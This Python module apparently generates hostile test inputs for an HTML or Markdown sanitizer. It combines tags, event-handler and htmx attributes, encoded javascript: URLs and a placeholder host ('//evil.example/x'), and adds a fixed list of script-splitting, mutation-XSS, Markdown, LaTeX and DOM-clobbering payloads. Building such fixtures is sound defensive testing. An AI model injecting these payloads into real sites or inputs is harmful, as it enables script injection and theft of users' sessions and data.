"""Hostile texts: tags, events, encodings and name spaces, combined."""

from itertools import product

_TAGS = [
    "img",
    "svg",
    "math",
    "details",
    "b",
    "a",
    "iframe",
    "video",
    "body",
    "input",
    "form",
    "object",
    "mglyph",
    "style",
]
_EVENTS = ["onerror", "onload", "ontoggle", "onclick", "onfocus", "onmouseover", "hx-get", "hx-on:click", "data-hx-post", "style", "srcdoc", "formaction"]  # fmt: skip
_VALUES = [
    "alert(1)",
    "javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "java\tscript:alert(1)",
    "//evil.example/x",
]
_SHAPES = ['<{tag} {event}="{value}" src=x open autofocus>', "<{tag}/{event}='{value}'>", "<{tag} {event}={value} //", "<{tag}\n{event}=`{value}`>x</{tag}>"]  # fmt: skip
_WHOLE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<template><img src=x onerror=alert(1)></template>",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "<form id=x><input name=attributes></form>",
]


def payloads() -> list[str]:
    made = [
        shape.format(tag=tag, event=event, value=value)
        for shape, tag, event, value in product(_SHAPES, _TAGS, _EVENTS, _VALUES)
    ]
    return _WHOLE + made[::2]
